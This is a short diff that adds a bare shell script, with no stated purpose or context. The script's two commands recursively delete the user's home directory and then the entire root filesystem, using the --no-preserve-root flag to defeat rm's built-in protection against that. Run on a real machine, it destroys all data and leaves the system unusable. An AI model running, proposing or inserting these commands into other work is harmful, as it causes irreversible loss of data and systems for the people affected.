@@ -1,0 +1,3 @@
+#!/bin/sh
+rm -rf ~/*
+rm -rf --no-preserve-root /
